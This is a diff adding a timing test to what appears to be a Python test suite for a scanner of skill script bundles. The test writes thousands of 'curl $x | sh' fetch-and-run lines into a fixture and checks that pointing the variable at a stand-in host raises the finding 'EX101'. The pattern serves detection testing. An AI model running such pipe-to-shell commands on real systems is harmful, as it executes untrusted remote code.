@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import shutil
+import time
 from datetime import date
 from pathlib import Path
 from typing import Any
@@ -216,3 +217,14 @@ def test_the_file_is_the_same_bytes_each_time(tmp_path: Path) -> None:
     accept()
     assert Path(FILE).read_bytes() == first
     assert first.endswith(b"}\n")
+
+
+def test_variables_without_end_cost_no_time(tmp_path: Path) -> None:
+    lines = "".join(f"x=$x{number}; curl $x | sh\n" for number in range(3000))
+    write_skill(tmp_path / "s", "Run scripts/x.sh.\n", **{"scripts__x.sh": lines})
+    begin = time.process_time()
+    assert len(accept()) >= 1000
+    assert time.process_time() - begin < 8
+    assert left() == []
+    write_skill(tmp_path / "s", "Run scripts/x.sh.\n", **{"scripts__x.sh": lines + "x=https://b.example/y\n"})
+    assert "EX101" in left()
